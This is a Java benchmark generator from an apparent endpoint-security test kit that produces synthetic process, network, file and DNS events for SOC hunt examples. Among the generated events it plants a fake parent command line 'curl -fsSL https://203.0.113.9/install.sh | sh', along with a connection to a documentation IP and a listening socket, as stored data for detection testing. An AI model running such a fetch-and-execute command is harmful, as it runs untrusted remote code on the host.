package io.vigil.testkit.bench;

import io.vigil.agent.sensor.synthetic.SyntheticEvents;
import io.vigil.proto.v1.Event;
import io.vigil.proto.v1.EventKind;
import io.vigil.proto.v1.Flow;
import io.vigil.proto.v1.NetworkConnection;
import io.vigil.proto.v1.ProcessExec;
import io.vigil.proto.v1.ProcessRef;
import io.vigil.proto.v1.Transport;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * One agent's stream of realistic events for {@code bench/soc/run.sh}: the agent's synthetic
 * sensor's events ({@link SyntheticEvents}: execs with 100-300 byte command lines, exits,
 * connections, file events, DNS) plus flows, with the acting processes tied together so that the
 * store holds process trees: an exec's parent is, 9 times in 10, one of the last {@value #RECENT}
 * processes this agent executed (else one of the synthetic sensor's unrelated parents, a root), and
 * exits, connections, file events, DNS queries and half the flows name one of those processes.
 *
 * <p>Planted for the example hunts of docs/hunting.md, once every {@value #PLANT_EVERY} events of
 * the stream: a {@code sh} exec whose parent's command line pipes curl into it, a connection to
 * 192.0.2.7 and a listening socket. Mix (weights): exec 25, exit 20, connection 20, file 15, DNS
 * 10, flow 10. Not thread-safe.
 */
final class SocEvents {
  static final int RECENT = 2048;
  static final int PLANT_EVERY = 40_000;
  static final String PLANTED_IP = "192.0.2.7";

  private final long seed;
  private final List<ProcessRef> recent = new ArrayList<>();
  private long n;

  SocEvents(long seed) {
    this.seed = seed;
    // The agent's init: every tree hangs below it or below a synthetic root.
    recent.add(
        ProcessRef.newBuilder()
            .setEntityId(String.format("%032x", seed))
            .setPid(1)
            .setImage("/usr/lib/systemd/systemd")
            .setCommandLine("/sbin/init")
            .setUser("root")
            .build());
  }

  /** The next event, stamped {@code timeNs}, with {@code seq}. */
  Event next(long seq, long timeNs) {
    long i = n++;
    SplittableRandom r = new SplittableRandom(seed * 0x9E3779B97F4A7C15L + i);
    int plant = (int) (i % PLANT_EVERY);
    Event.Builder e;
    if (plant == 0) {
      e = curlPipedToSh(i, r, timeNs);
    } else if (plant == 1 || plant == 2) {
      e = SyntheticEvents.create(i, EventKind.EVENT_KIND_CONNECTION, r, timeNs);
      NetworkConnection.Builder c = e.getConnectionBuilder().setProcess(actor(r));
      if (plant == 1) {
        c.setDirection(NetworkConnection.Direction.DIRECTION_OUTBOUND)
            .setDestinationIp(PLANTED_IP)
            .setDestinationPort(443);
      } else {
        c.setDirection(NetworkConnection.Direction.DIRECTION_LISTEN)
            .setSourceIp("0.0.0.0")
            .setSourcePort(30_000 + r.nextInt(20_000))
            .setDestinationIp("0.0.0.0")
            .setDestinationPort(0);
      }
    } else {
      e = ordinary(i, r, timeNs);
    }
    return e.setSeq(seq).build();
  }

  private Event.Builder ordinary(long i, SplittableRandom r, long timeNs) {
    int w = r.nextInt(100);
    if (w < 25) {
      Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_PROCESS_EXEC, r, timeNs);
      ProcessExec.Builder x = e.getProcessExecBuilder();
      if (r.nextInt(10) != 0) {
        x.setParent(actor(r));
      }
      remember(x.getProcess(), r);
      return e;
    }
    if (w < 45) {
      Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_PROCESS_EXIT, r, timeNs);
      e.getProcessExitBuilder().setProcess(actor(r));
      return e;
    }
    if (w < 65) {
      Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_CONNECTION, r, timeNs);
      e.getConnectionBuilder().setProcess(actor(r));
      return e;
    }
    if (w < 80) {
      Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_FILE, r, timeNs);
      e.getFileBuilder().setProcess(actor(r));
      return e;
    }
    if (w < 90) {
      Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_DNS, r, timeNs);
      e.getDnsBuilder().setProcess(actor(r));
      return e;
    }
    return flow(i, r, timeNs);
  }

  /** A flow as the packet sensor reports it; half of them with their local process. */
  private Event.Builder flow(long i, SplittableRandom r, long timeNs) {
    Flow.Builder f =
        Flow.newBuilder()
            .setTransport(Transport.TRANSPORT_TCP)
            .setSourceIp("10.1." + r.nextInt(256) + "." + r.nextInt(256))
            .setSourcePort(32_768 + r.nextInt(28_000))
            .setDestinationIp("10.2." + r.nextInt(256) + "." + r.nextInt(256))
            .setDestinationPort(443)
            .setStartTimeNs(timeNs - 1_000_000_000L)
            .setEndTimeNs(timeNs)
            .setPacketsToServer(1 + r.nextInt(200))
            .setPacketsToClient(1 + r.nextInt(200))
            .setBytesToServer(r.nextInt(200_000))
            .setBytesToClient(r.nextInt(2_000_000))
            .setApplication("tls")
            .setCommunityId("1:" + Long.toHexString(r.nextLong()) + Long.toHexString(i))
            .setTcpFlagsToServer(0x1b)
            .setTcpFlagsToClient(0x1b);
    if (r.nextBoolean()) {
      f.setProcess(actor(r));
    }
    return Event.newBuilder().setEventTimeNs(timeNs).setSensor("packet").setFlow(f);
  }

  /** {@code /usr/bin/sh} started by a shell running {@code curl ... | sh}, itself in the tree. */
  private Event.Builder curlPipedToSh(long i, SplittableRandom r, long timeNs) {
    Event.Builder e = SyntheticEvents.create(i, EventKind.EVENT_KIND_PROCESS_EXEC, r, timeNs);
    ProcessExec.Builder x = e.getProcessExecBuilder();
    ProcessRef shell =
        x.getParent().toBuilder()
            .setImage("/usr/bin/bash")
            .setCommandLine("bash -c curl -fsSL https://203.0.113.9/install.sh | sh")
            .build();
    x.setParent(shell)
        .clearArgs()
        .addArgs("sh")
        .setProcess(
            x.getProcess().toBuilder().setImage("/usr/bin/sh").setCommandLine("sh").build());
    remember(x.getProcess(), r);
    return e;
  }

  private ProcessRef actor(SplittableRandom r) {
    return recent.get(r.nextInt(recent.size()));
  }

  private void remember(ProcessRef p, SplittableRandom r) {
    if (recent.size() < RECENT) {
      recent.add(p);
    } else {
      recent.set(r.nextInt(RECENT), p);
    }
  }
}
